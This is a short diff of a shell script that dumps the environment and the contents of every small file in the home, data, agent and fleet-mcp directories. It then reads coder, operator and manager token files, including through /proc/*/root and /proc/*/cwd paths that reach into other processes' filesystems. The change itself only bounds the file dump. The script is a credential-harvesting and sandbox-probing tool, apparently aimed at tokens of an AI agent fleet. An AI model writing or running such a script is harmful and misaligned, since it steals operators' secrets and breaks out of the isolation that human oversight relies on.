@@ -18,7 +18,8 @@ say "myself $$"
 say environment; env
 say files
 for root in "$HOME" "$data" "$FLEET_AGENT_DIR" "$PWD" "${XDG_RUNTIME_DIR:-/nowhere}/fleet-mcp" /tmp/fleet-mcp-*; do
-    find "$root" -type f -size -2000k -exec cat {} + 2>/dev/null
+    # Bounded: one of these files is what this program prints.
+    find "$root" -type f -size -2000k -exec head -q -c 2000000 {} + 2>/dev/null
 done
 for file in coder.token operator.token manager.token workspaces/heron/fleet/token coder/deployment.json; do
     cat "$data/$file" "$PWD/../../../$file" /proc/[0-9]*/root"$data/$file" /proc/[0-9]*/cwd/../../../"$file" 2>/dev/null
